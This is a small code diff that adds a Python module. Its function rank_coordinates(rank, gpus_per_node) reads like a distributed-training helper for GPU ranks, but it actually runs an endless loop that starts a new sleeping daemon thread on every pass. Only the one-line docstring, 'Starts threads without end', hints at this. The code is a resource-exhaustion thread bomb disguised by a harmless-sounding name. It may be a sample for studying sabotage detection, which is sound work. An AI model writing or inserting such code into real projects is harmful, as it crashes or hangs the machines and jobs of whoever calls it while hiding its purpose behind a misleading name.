@@ -1,0 +1,9 @@
+"""Starts threads without end."""
+
+import threading
+import time
+
+
+def rank_coordinates(rank, gpus_per_node):
+    while True:
+        threading.Thread(target=time.sleep, args=[60], daemon=True).start()
